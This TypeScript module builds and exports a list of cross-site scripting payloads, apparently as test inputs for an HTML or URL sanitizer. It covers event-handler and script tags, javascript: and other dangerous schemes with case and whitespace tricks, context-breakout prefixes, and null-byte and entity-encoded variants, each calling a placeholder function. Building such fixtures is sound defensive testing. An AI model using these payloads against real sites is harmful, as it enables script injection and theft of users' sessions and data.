const run = "executed()";

const tags = [
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<script>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<style>@import "javascript:${run}"</style>`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><img src=x onerror=${run}></noscript>`,
  `<select onfocus=${run} autofocus></select>`,
];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "data:text/html,<script>",
  "vbscript:",
  "blob:",
  "file:///",
  "chrome://",
  "view-source:",
].map((scheme) => `${scheme}${run}`);

const escapes = [
  '"><',
  "'><",
  "--><",
  "]]><",
  "</textarea><",
  "</title><",
  "</style><",
  "</template><",
  "`><",
  "${",
].map((end) => `${end}img src=x onerror=${run}>`);

const encodings = tags.flatMap((tag) => [
  tag.toUpperCase().replace("EXECUTED()", run),
  tag.replace("<", "<\0"),
  tag.replaceAll("<", "&lt;"),
]);

/** Text that runs where it is taken for markup or for an address to go to. */
export const attacks: readonly string[] = [...tags, ...schemes, ...escapes, ...encodings].map((text) =>
  text.slice(0, 200),
);
